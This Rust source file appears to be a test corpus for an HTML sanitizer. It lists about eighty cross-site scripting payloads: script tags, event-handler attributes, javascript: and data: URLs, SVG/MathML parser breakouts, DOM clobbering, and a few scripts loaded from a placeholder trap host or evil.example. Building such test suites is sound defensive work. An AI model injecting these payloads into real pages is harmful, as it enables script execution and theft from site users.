//! U1: markup that would run a script.

use super::Attack;

const fn run(what: &'static str, html: &'static str) -> Attack {
    Attack::new("U1", what, html)
}

pub(super) const RUNNING: &[Attack] = &[
    run("a script", "<script>{run}</script>after"),
    run("a script in mixed case", "<ScRiPt>{run}</sCrIpT>"),
    run(
        "a script from a server",
        "<script src=http://{trap}/s.js></script>",
    ),
    run(
        "a module from a server",
        "<script type=module src=http://{trap}/m.js></script>",
    ),
    run(
        "a script within a script",
        "<scr<script>ipt>{run}</scr</script>ipt>",
    ),
    run("a script that nobody closes", "<script>{run}"),
    run(
        "a script with a slash for a blank",
        "<script/x>{run}</script>",
    ),
    run("a picture that fails", "<img src=x onerror={run}>"),
    run(
        "a picture that fails, without a close",
        "<img src=x onerror=\"{run}\"",
    ),
    run(
        "a picture under its old name",
        "<image src=x onerror={run}>",
    ),
    run(
        "a picture with quotes in quotes",
        "<img \"\"\"><script>{run}</script>\">",
    ),
    run("a drawing that loads", "<svg/onload={run}>"),
    run("a script in a drawing", "<svg><script>{run}</script></svg>"),
    run(
        "a script in a drawing, written in entities",
        "<svg><script>&#119;indow.ran=1</script></svg>",
    ),
    run(
        "a link in a drawing",
        "<svg><a xlink:href=\"javascript:{run}\"><text y=20>x</text></a></svg>",
    ),
    run(
        "a drawing that sets a link by animation",
        "<svg><a><animate attributeName=href values=\"javascript:{run}\"/><text y=20>x</text></a></svg>",
    ),
    run(
        "a drawing that begins an animation",
        "<svg><animate onbegin={run} attributeName=x dur=1s>",
    ),
    run(
        "a drawing that uses another",
        "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{run}</script></svg>#x\"/></svg>",
    ),
    run(
        "a drawing with a foreign part",
        "<svg><foreignObject><iframe srcdoc='<script>{run}</script>'></iframe></foreignObject></svg>",
    ),
    run(
        "a link in a formula",
        "<math href=\"javascript:{run}\"><mtext>x</mtext></math>",
    ),
    run(
        "a formula with an encoded part",
        "<math><annotation-xml encoding=\"text/html\"><script>{run}</script></annotation-xml></math>",
    ),
    run(
        "a paragraph that breaks out of a drawing",
        "<svg></p><style><a id=\"</style><img src=1 onerror={run}>\">",
    ),
    run(
        "a table that breaks out of a formula",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={run}&gt;\">",
    ),
    run(
        "a form that breaks out of a formula",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
    ),
    run(
        "a style in a drawing in a formula",
        "<math><mi><svg><style><img src=x onerror={run}></style></svg></mi></math>",
    ),
    run(
        "a title in a drawing",
        "<svg><title><img src=x onerror={run}></title></svg>",
    ),
    run(
        "a part of a drawing that is read as markup",
        "<svg><desc><noscript><p title=\"</noscript><img src=x onerror={run}>\"></desc></svg>",
    ),
    run(
        "an area of text that is closed within a title",
        "<textarea><p title=\"</textarea><img src=x onerror={run}>\"></textarea>",
    ),
    run(
        "a page without scripts that is closed within a title",
        "<noscript><p title=\"</noscript><img src=x onerror={run}>\">",
    ),
    run("a template", "<template><script>{run}</script></template>"),
    run(
        "a template with a shadow",
        "<div><template shadowrootmode=open><script>{run}</script></template></div>",
    ),
    run(
        "text of an old kind",
        "<xmp><p title=\"</xmp><script>{run}</script>\">",
    ),
    run("text that never ends", "<plaintext><script>{run}</script>"),
    run(
        "what is not embedded",
        "<noembed><p title=\"</noembed><script>{run}</script>\">",
    ),
    run(
        "what is not framed",
        "<noframes><p title=\"</noframes><script>{run}</script>\">",
    ),
    run(
        "a choice with a style",
        "<select><option><style></select><img src=x onerror={run}></style>",
    ),
    run(
        "a comment that ends early",
        "<!--><img src=x onerror={run}>-->",
    ),
    run(
        "a comment that ends with a mark",
        "<!--a--!><img src=x onerror={run}>-->",
    ),
    run("a section of data", "<![CDATA[<img src=x onerror={run}>]]>"),
    run(
        "a section of data in a drawing",
        "<svg><![CDATA[><img src=x onerror={run}>]]>",
    ),
    run(
        "an instruction to a reader",
        "<?xml <img src=x onerror={run}>?>",
    ),
    run(
        "a document type",
        "<!doctype html [<!ENTITY x \"<script>{run}</script>\">]>&x;",
    ),
    run(
        "a frame with a document",
        "<iframe srcdoc='<script>{run}</script>'></iframe>",
    ),
    run(
        "a frame with a script for an address",
        "<iframe src=\"javascript:{run}\"></iframe>",
    ),
    run(
        "a frame with data for an address",
        "<iframe src=\"data:text/html,<script>{run}</script>\"></iframe>",
    ),
    run(
        "frames of an old kind",
        "<frameset onload={run}><frame src=\"javascript:{run}\"></frameset>",
    ),
    run(
        "an object",
        "<object data=\"data:text/html,<script>{run}</script>\"></object>",
    ),
    run(
        "an object with a script",
        "<object data=\"javascript:{run}\"></object>",
    ),
    run(
        "an embedded document",
        "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>\">",
    ),
    run("an applet", "<applet code=\"javascript:{run}\"></applet>"),
    run(
        "a film without pictures",
        "<video><source onerror={run}></video>",
    ),
    run("a sound that fails", "<audio src=x onerror={run}></audio>"),
    run("a body that loads", "<body onload={run}>"),
    run("a page that is shown", "<html onpageshow={run}><body>"),
    run(
        "a fold that opens",
        "<details open ontoggle={run}>a</details>",
    ),
    run(
        "a popover that opens",
        "<button popovertarget=x>a</button><div popover id=x onbeforetoggle={run}>b</div>",
    ),
    run(
        "a field that takes the focus",
        "<input autofocus onfocus={run}>",
    ),
    run(
        "a text that takes the focus",
        "<p contenteditable tabindex=0 autofocus onfocus={run}>a</p>",
    ),
    run("a running text", "<marquee onstart={run}>a</marquee>"),
    run(
        "an animation that begins",
        "<style>@keyframes x{}</style><p style=\"animation:x 1s\" onanimationstart=\"{run}\">a</p>",
    ),
    run(
        "a change that ends",
        "<p style=\"transition:all 1ms;width:1px\" ontransitionend={run}>a</p>",
    ),
    run(
        "a pointer that passes",
        "<b onmouseover={run} onpointerenter={run}>a</b>",
    ),
    run("a press", "<p onclick={run} onpointerdown={run}>a</p>"),
    run("a slash for a blank", "<p/onclick={run}/onfocus={run}>a"),
    run(
        "a part of the markup's own making",
        "<x-y onclick={run} onfocus={run} tabindex=0>a</x-y>",
    ),
    run("a part with `is`", "<p is=side-pane onclick={run}>a</p>"),
    run(
        "another pane",
        "<side-pane src=http://{trap}/ session=x></side-pane>",
    ),
    run(
        "names that hide what a script looks for",
        "<a id=parent name=parent href=x></a><form id=document name=body><input name=parentNode></form><img name=getElementById>",
    ),
    run(
        "a name that hides the port",
        "<a id=port></a><a id=port name=postMessage href=\"https://evil.example/\">x</a>",
    ),
    run(
        "a table that holds a drawing that holds a script",
        "<table><td><svg><desc><td><script>{run}</script>",
    ),
    run(
        "an element with a nul in its name",
        "<scr\0ipt>{run}</scr\0ipt><img\0src=x onerror={run}>",
    ),
    run(
        "a form feed between name and attribute",
        "<img\u{c}src=x\u{c}onerror={run}>",
    ),
    run(
        "wide signs",
        "\u{ff1c}script\u{ff1e}{run}\u{ff1c}/script\u{ff1e}",
    ),
    run("a script in entities", "&lt;script&gt;{run}&lt;/script&gt;"),
    run(
        "a script in entities twice",
        "&amp;lt;script&amp;gt;{run}&amp;lt;/script&amp;gt;",
    ),
    run(
        "a policy of its own",
        "<meta http-equiv=content-security-policy content=\"script-src *\"><script>{run}</script>",
    ),
    run(
        "modules by a map",
        "<script type=importmap>{\"imports\":{\"x\":\"http://{trap}/x.js\"}}</script>",
    ),
    run(
        "rules for guessing the next page",
        "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"http://{trap}/p\"]}]}</script>",
    ),
    run(
        "a script that says it is allowed",
        "<script nonce=a integrity=sha256-x>{run}</script>",
    ),
];
